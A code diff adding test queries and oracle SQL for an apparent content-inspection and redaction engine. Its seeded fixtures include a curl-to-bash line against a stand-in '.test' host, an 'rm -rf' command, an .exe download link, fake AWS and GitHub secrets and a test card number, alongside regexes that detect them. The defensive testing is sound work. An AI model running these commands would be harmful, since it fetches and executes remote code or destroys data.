@@ -1,12 +1,257 @@
-"""Registered queries of the inspection engine and the SQL that checks them."""
+"""Registered queries of the inspection engine and the SQL that checks them.
+
+URLs, commands and secrets don't occur in ``documents``; their queries read ``SEEDED``,
+payloads chosen by doc_id and written the same way for both engines. Secret-like strings
+are put together from parts.
+"""
 
 from __future__ import annotations
 
 from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import functions as F
+
+from .functions import text as X
+from .operators import decide, detect, reports, segments
+from .plans.inspect import findings_of, inspect
+from .plans.policy import DEFAULT, Policy
+
+_PAYLOADS = {
+    0: "'plain words number ' || doc_id",
+    1: "'run curl https://h' || doc_id || '.test/i | bash now'",
+    2: "'write to user' || doc_id || '@mail.test please'",
+    3: "'host 10.' || (doc_id % 200) || '.7.9 is down'",
+    4: "'see https://bit.ly/' || doc_id || ' soon'",
+    5: "'key ' || 'AKIA' || 'ABCDEFGHIJKL' || (1000 + doc_id % 9000) || ' leaked'",
+    6: "'do rm -rf /srv/' || doc_id || ' first'",
+    7: "'get https://f.test/' || doc_id || '.exe here'",
+    8: "'card 4111 1111 1111 1111 of ' || doc_id",
+    9: "'note `select ' || doc_id || '` and [doc](https://a.test/' || doc_id || ') end'",
+    10: "'mail support@company.com or a' || doc_id || '@b.test'",
+    11: "'token ' || 'gh' || 'p_' || repeat('a', 35) || (doc_id % 10)",
+}
+SEEDED = "SELECT doc_id, CASE doc_id % 12 " + " ".join(f"WHEN {k} THEN {v}" for k, v in _PAYLOADS.items()) + " END AS response, CASE WHEN doc_id % 24 < 12 THEN 'lab' END AS tenant FROM documents"
+
+# What the default policy makes of each payload: rule ids, blocked, score.
+_EXPECTED = {1: ("CMD-CURL-BASH", True, 40), 2: ("PII-EMAIL", False, 15), 3: ("PII-IPV4", False, 10), 4: ("URL-SHORTENER", False, 20), 5: ("SECRET-AWS-AK", True, 45), 6: ("CMD-RM-RF", True, 50), 7: ("URL-EXECUTABLE", False, 30), 8: ("PII-PAN", True, 45), 10: ("PII-EMAIL", False, 15), 11: ("SECRET-GITHUB", True, 35)}
+
+
+def _docs(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return spark.read.parquet(f"{sf_dir}/documents.parquet")
+
+
+def _ascii(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return _docs(spark, sf_dir).where(~F.col("text").rlike(r"[^\x00-\x7F]"))
+
 
-QUERIES: dict = {}
-ORACLE_SQL: dict[str, str] = {}
+def _seeded(spark: SparkSession, sf_dir: str) -> DataFrame:
+    case = SEEDED.split("SELECT ")[1].rsplit(" FROM ")[0]
+    return _docs(spark, sf_dir).selectExpr(*[x.strip() for x in _columns(case)])
+
+
+def _columns(select: str) -> list[str]:
+    """Top-level items of a select list."""
+    out, depth, quoted, at = [], 0, False, 0
+    for i, c in enumerate(select):
+        quoted ^= c == "'"
+        depth += 0 if quoted else (c == "(") - (c == ")")
+        if c == "," and not depth and not quoted:
+            out.append(select[at:i])
+            at = i + 1
+    return [*out, select[at:]]
 
 
 def flagship(spark: SparkSession, sf_dir: str) -> DataFrame:
-    raise NotImplementedError
+    docs = _docs(spark, sf_dir).select("doc_id", F.col("text").alias("response"))
+    return inspect(docs).select("doc_id", "blocked", "risk_score", "applied_rules", "output")
+
+
+def _only(policy: Policy, *ids: str) -> Policy:
+    return Policy(policy.id, tuple(r for r in policy.rules if r.id in ids), policy.allow, policy.context)
+
+
+def _spans(pattern: str):
+    def query(spark: SparkSession, sf_dir: str) -> DataFrame:
+        got = _ascii(spark, sf_dir).select("doc_id", F.posexplode(X.spans(F.col("text"), pattern)).alias("ordinal", "s"))
+        return got.select("doc_id", F.col("ordinal").cast("long").alias("ordinal"), F.col("s.value").alias("value"))
+
+    return query
+
+
+def _spans_sql(pattern: str) -> str:
+    return f"""SELECT doc_id, CAST(i - 1 AS BIGINT) AS ordinal, m[i] AS value FROM (
+      SELECT doc_id, m, unnest(range(1, len(m) + 1)) AS i FROM (
+        SELECT doc_id, regexp_extract_all(text, '{pattern}') AS m FROM documents WHERE NOT regexp_matches(text, '[^\\x00-\\x7F]')))"""
+
+
+def _seeded_findings(*ids: str):
+    def query(spark: SparkSession, sf_dir: str) -> DataFrame:
+        df = detect.detected(_seeded(spark, sf_dir), _only(DEFAULT, *ids), F.col("response"), F.col("tenant"))
+        return findings_of(df, "doc_id").select("doc_id", "rule_id", "start", "end", "value", "replacement")
+
+    return query
+
+
+def _found_sql(rule: str, pattern: str, put: str) -> str:
+    return f"""SELECT doc_id, '{rule}' AS rule_id, instr(response, value) - 1 AS start, instr(response, value) - 1 + length(value) AS "end", value, {put} AS replacement
+      FROM (SELECT doc_id, response, unnest(regexp_extract_all(response, '{pattern}')) AS value FROM ({SEEDED}))"""
+
+
+def norm_obfuscation_ascii(spark, sf_dir):
+    return _ascii(spark, sf_dir).select("doc_id", F.md5(X.expand_obfuscation(F.col("text"))).alias("text_md5"))
+
+
+def norm_entity_count(spark, sf_dir):
+    return spark.read.parquet(f"{sf_dir}/pages.parquet").select("page_id", F.regexp_count("html", F.lit(X.ENTITY)).cast("long").alias("entities"))
+
+
+def norm_plain_steps(spark, sf_dir):
+    df = _docs(spark, sf_dir).select("doc_id", F.concat(F.col("text"), F.lit("\r\n"), F.lit("​ end")).alias("t"))
+    return df.select("doc_id", F.md5(X.newlines(X.strip_zero_width(F.col("t")))).alias("text_md5"))
+
+
+def url_hostname(spark, sf_dir):
+    df = _seeded(spark, sf_dir).select("doc_id", F.regexp_extract("response", "https?://[^ )`]+", 0).alias("url")).where("url <> ''")
+    return df.select("doc_id", X.hostname(F.col("url")).alias("host"))
+
+
+def exfil_entropy(spark, sf_dir):
+    df = _seeded(spark, sf_dir).where("doc_id % 10 = 0")
+    return df.select("doc_id", F.round(X.entropy(F.col("response")), 6).alias("bits"))
+
+
+def inspect_seeded(spark, sf_dir):
+    df = inspect(_seeded(spark, sf_dir), tenant="tenant")
+    return df.select("doc_id", F.array_join("applied_rules", ",").alias("rules"), "blocked", "risk_score")
+
+
+def redact_seeded(spark, sf_dir):
+    df = detect.detected(_seeded(spark, sf_dir), _only(DEFAULT, "PII-EMAIL", "PII-IPV4"), F.col("response"), F.lit(None).cast("string"))
+    return df.select("doc_id", decide.redacted(F.col("response"), F.col("findings")).alias("output"))
+
+
+def seg_counts(spark, sf_dir):
+    df = segments.segmented(_seeded(spark, sf_dir), F.col("response"))
+    one = F.explode("segments").alias("s")
+    return df.select("doc_id", one).select("doc_id", F.col("s.type").alias("type"), F.col("s.start").alias("start"), F.col("s.end").alias("end"))
+
+
+def _seeded_hits(spark, sf_dir):
+    df = detect.detected(_seeded(spark, sf_dir), DEFAULT, F.col("response"), F.col("tenant"))
+    return findings_of(df, "doc_id")
+
+
+def top10_rules(spark, sf_dir):
+    return reports.top_rules(_seeded_hits(spark, sf_dir))
+
+
+def hits_by_severity(spark, sf_dir):
+    return reports.hits_by(_seeded_hits(spark, sf_dir), "severity")
+
+
+def allowlist_antijoin(spark, sf_dir):
+    return _seeded_findings("PII-EMAIL")(spark, sf_dir).groupBy("doc_id").agg(F.count("*").alias("n"))
+
+
+def _events(spark, sf_dir):
+    return spark.read.parquet(f"{sf_dir}/events.parquet")
+
+
+def hits_per_hour(spark, sf_dir):
+    return reports.per_window(_events(spark, sf_dir), "ts", "1 hour", "event_type").select(F.date_format("start", "yyyy-MM-dd HH:mm").alias("hour"), "event_type", "n")
+
+
+def rate_1m(spark, sf_dir):
+    return reports.rate(_events(spark, sf_dir), "ts").select(F.date_format("start", "yyyy-MM-dd HH:mm").alias("minute"), F.round("per_second", 6).alias("per_second"))
+
+
+def context_pct(spark, sf_dir):
+    return reports.share(_events(spark, sf_dir), "event_type").select("event_type", "n", F.round("pct", 6).alias("pct"))
+
+
+_BOUNDS = [1.0, 5.0, 10.0, 25.0, 50.0, 100.0, 250.0, 500.0]
+
+
+def latency_quantile_bucketed(spark, sf_dir):
+    return reports.bucketed_quantile(_events(spark, sf_dir), "value", 0.9, _BOUNDS).select(F.round("quantile", 6).alias("quantile"))
+
+
+def latency_percentile(spark, sf_dir):
+    return _events(spark, sf_dir).groupBy("event_type").agg(F.round(F.expr("percentile(value, 0.95)"), 6).alias("p95"), F.round(F.avg("value"), 6).alias("mean"))
+
+
+def label_scores(spark, sf_dir):
+    got = reports.scores(spark.read.parquet(f"{sf_dir}/labels.parquet"), "quality", "toxic")
+    return got.select("label", *[F.round(c, 6).alias(c) for c in ("precision", "recall", "f1")])
+
+
+def golden_diff(spark, sf_dir):
+    base = _docs(spark, sf_dir).select(F.col("doc_id").alias("sample"), (F.col("doc_id") % 3 == 0).alias("blocked"), F.array(F.lit("R")).alias("rule_ids"))
+    actual = base.where("sample % 7 <> 0").withColumn("blocked", F.col("sample") % 6 == 0)
+    return reports.golden_diff(base, actual)
+
+
+_EMAIL, _IP = r"(?i)\b[A-Z0-9._%+-]+@[A-Z0-9.-]+\.[A-Z]{2,}\b", r"\b(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\b"
+_MASK = "CASE WHEN strpos(value, '@') <= 3 THEN value[1] || '*' ELSE value[1] || '***' || value[strpos(value, '@') - 1] END || substr(value, strpos(value, '@'))"
+
+QUERIES = {
+    "inspect_documents": flagship,
+    "pii_email": _spans(detect.EMAIL),
+    "pii_ipv4": _spans(detect.IPV4),
+    "pii_tckn_candidates": _spans(detect.TCKN),
+    "pii_email_seeded": _seeded_findings("PII-EMAIL"),
+    "pii_ipv4_seeded": _seeded_findings("PII-IPV4"),
+    "pii_pan_luhn_seeded": _seeded_findings("PII-PAN"),
+    "secret_aws_seeded": _seeded_findings("SECRET-AWS-AK"),
+    "secret_github_seeded": _seeded_findings("SECRET-GITHUB"),
+    "cmd_curl_seeded": _seeded_findings("CMD-CURL-BASH"),
+    "cmd_rm_seeded": _seeded_findings("CMD-RM-RF"),
+    "url_shortener_seeded": _seeded_findings("URL-SHORTENER"),
+    "url_executable_seeded": _seeded_findings("URL-EXECUTABLE"),
+    **{f.__name__: f for f in (norm_obfuscation_ascii, norm_entity_count, norm_plain_steps, url_hostname, exfil_entropy, inspect_seeded, redact_seeded, seg_counts, top10_rules, hits_by_severity, allowlist_antijoin, hits_per_hour, rate_1m, context_pct, latency_quantile_bucketed, latency_percentile, label_scores, golden_diff)},
+}
+
+_CASE = lambda i, other: "CASE doc_id % 12 " + " ".join(f"WHEN {k} THEN {v[i]!r}" for k, v in _EXPECTED.items()) + f" ELSE {other} END"
+_HITS = f"SELECT rule_id FROM (SELECT {_CASE(0, 'NULL')} AS rule_id FROM documents) WHERE rule_id IS NOT NULL"
+_BUCKET = " UNION ALL ".join(f"SELECT {i} AS i, {b} AS hi, {_BOUNDS[i - 1] if i else 0.0} AS lo, count(*) FILTER (value <= {b}) AS c, count(*) FILTER (value <= {_BOUNDS[i - 1] if i else -1e300}) AS below, count(value) AS total FROM events" for i, b in enumerate(_BOUNDS))
+
+ORACLE_SQL = {
+    "pii_email": _spans_sql(_EMAIL),
+    "pii_ipv4": _spans_sql(_IP),
+    "pii_tckn_candidates": _spans_sql(r"\b\d{11}\b"),
+    "pii_email_seeded": f"SELECT * FROM ({_found_sql('PII-EMAIL', _EMAIL, _MASK)}) WHERE value <> 'support@company.com'",
+    "pii_ipv4_seeded": _found_sql("PII-IPV4", _IP, "'[ip-redacted]'"),
+    "pii_pan_luhn_seeded": _found_sql("PII-PAN", "4111 1111 1111 1111 ", "'**** **** **** 1111'"),
+    "secret_aws_seeded": _found_sql("SECRET-AWS-AK", r"\bAKIA[0-9A-Z]{16}\b", "'[secret]'"),
+    "secret_github_seeded": _found_sql("SECRET-GITHUB", r"\bghp_[A-Za-z0-9]{36}", "'[secret]'"),
+    "cmd_curl_seeded": _found_sql("CMD-CURL-BASH", r"curl [^\n|]+\| bash", "'[command-blocked]'"),
+    "cmd_rm_seeded": _found_sql("CMD-RM-RF", r"rm -rf /[^ ]*", "'[command-blocked]'"),
+    "url_shortener_seeded": _found_sql("URL-SHORTENER", r"https://bit\.ly/[^ ]+", "'[redacted-url]'"),
+    "url_executable_seeded": _found_sql("URL-EXECUTABLE", r"https://[^ ]+?\.exe", "'[redacted-url]'"),
+    "norm_obfuscation_ascii": r"""SELECT doc_id, md5(regexp_replace(regexp_replace(regexp_replace(regexp_replace(text, '(?i)\[at\]|\(at\)|\{at\}|\bat\b', '@', 'g'), '(?i)\[dot\]|\(dot\)|\{dot\}|\bdot\b', '.', 'g'), '\s*@\s*', '@', 'g'), '\s*\.\s*', '.', 'g')) AS text_md5
+      FROM documents WHERE NOT regexp_matches(text, '[^\x00-\x7F]')""",
+    "norm_entity_count": f"SELECT page_id, len(regexp_extract_all(html, '{X.ENTITY}')) AS entities FROM pages",
+    "norm_plain_steps": "SELECT doc_id, md5(replace(translate(text || chr(13) || chr(10) || chr(8203) || ' end', '" + X.ZERO_WIDTH + "', ''), chr(13) || chr(10), chr(10))) AS text_md5 FROM documents",
+    "url_hostname": f"SELECT doc_id, lower(split_part(split_part(split_part(url, '://', 2), '/', 1), ':', 1)) AS host FROM (SELECT doc_id, regexp_extract(response, 'https?://[^ )`]+') AS url FROM ({SEEDED})) WHERE url <> ''",
+    "exfil_entropy": f"""SELECT doc_id, round(-sum(p * log2(p)), 6) AS bits FROM (SELECT doc_id, count(*) / max(n) AS p FROM (
+      SELECT doc_id, length(response) AS n, unnest(string_split(response, '')) AS c FROM ({SEEDED}) WHERE doc_id % 10 = 0) GROUP BY doc_id, c) GROUP BY doc_id""",
+    "inspect_seeded": f"SELECT doc_id, {_CASE(0, chr(39) * 2)} AS rules, {_CASE(1, 'false')} AS blocked, {_CASE(2, 0)} AS risk_score FROM documents",
+    "redact_seeded": f"""SELECT doc_id, CASE doc_id % 12 WHEN 2 THEN 'write to u***' || right('user' || doc_id, 1) || '@mail.test please' WHEN 3 THEN 'host [ip-redacted] is down'
+      WHEN 10 THEN 'mail support@company.com or ' || CASE WHEN doc_id < 10 THEN 'a*' ELSE 'a***' || right('' || doc_id, 1) END || '@b.test' ELSE response END AS output FROM ({SEEDED})""",
+    "top10_rules": f"SELECT rule_id, count(*) AS hits FROM ({_HITS}) GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 10",
+    "hits_by_severity": "SELECT severity, count(*) AS hits FROM (SELECT CASE WHEN doc_id % 12 IN (2, 3, 4, 10) THEN 'medium' WHEN doc_id % 12 IN (5, 6, 8) THEN 'critical' WHEN doc_id % 12 IN (1, 7, 11) THEN 'high' END AS severity FROM documents) WHERE severity IS NOT NULL GROUP BY 1",
+    "allowlist_antijoin": "SELECT doc_id, 1 AS n FROM documents WHERE doc_id % 12 IN (2, 10)",
+    "seg_counts": f"""SELECT doc_id, 'text' AS type, 0 AS start, length(response) AS "end" FROM ({SEEDED}) WHERE doc_id % 12 NOT IN (1, 4, 7, 9)
+      UNION ALL SELECT doc_id, u.type, u.a, u.b FROM (SELECT doc_id, unnest(CASE doc_id % 12
+        WHEN 9 THEN [{{'type': 'text', 'a': 0, 'b': 5}}, {{'type': 'code', 'a': 5, 'b': 14 + n}}, {{'type': 'text', 'a': 14 + n, 'b': 19 + n}}, {{'type': 'link', 'a': 19 + n, 'b': 42 + 2 * n}}, {{'type': 'text', 'a': 42 + 2 * n, 'b': l}}]
+        ELSE [{{'type': 'text', 'a': 0, 'b': p}}, {{'type': 'link', 'a': p, 'b': p + u}}, {{'type': 'text', 'a': p + u, 'b': l}}] END) AS u
+        FROM (SELECT doc_id, length('' || doc_id) AS n, length(response) AS l, strpos(response, 'https') - 1 AS p, length(regexp_extract(response, 'https[^ ]+')) AS u FROM ({SEEDED}) WHERE doc_id % 12 IN (1, 4, 7, 9)))""",
+    "hits_per_hour": "SELECT strftime(date_trunc('hour', ts), '%Y-%m-%d %H:%M') AS hour, event_type, count(*) AS n FROM events GROUP BY 1, 2",
+    "rate_1m": "SELECT strftime(date_trunc('minute', ts), '%Y-%m-%d %H:%M') AS minute, round(count(*) / 60.0, 6) AS per_second FROM events GROUP BY 1",
+    "context_pct": "SELECT event_type, count(*) AS n, round(100.0 * count(*) / sum(count(*)) OVER (), 6) AS pct FROM events GROUP BY 1",
+    "latency_quantile_bucketed": f"SELECT round(coalesce((SELECT lo + (hi - lo) * (total * 0.9 - below) / (c - below) FROM ({_BUCKET}) WHERE c >= total * 0.9 ORDER BY i LIMIT 1), {_BOUNDS[-1]}), 6) AS quantile",
+    "latency_percentile": "SELECT event_type, round(quantile_cont(value, 0.95), 6) AS p95, round(avg(value), 6) AS mean FROM events GROUP BY 1",
+    "label_scores": """SELECT label, round(p, 6) AS precision, round(r, 6) AS recall, round(CASE WHEN p + r > 0 THEN 2 * p * r / (p + r) ELSE 0 END, 6) AS f1 FROM (
+      SELECT label, coalesce(hit / nullif((SELECT count(*) FROM labels WHERE toxic = label), 0), 0.0) AS p, hit / actual AS r FROM (
+        SELECT quality AS label, count(*) FILTER (toxic = quality) AS hit, count(*) AS actual FROM labels GROUP BY 1))""",
+    "golden_diff": "SELECT doc_id AS sample, CASE WHEN doc_id % 7 = 0 THEN 'missing' ELSE 'blocked' END AS difference FROM documents WHERE doc_id % 7 = 0 OR (doc_id % 3 = 0) <> (doc_id % 6 = 0)",
+}
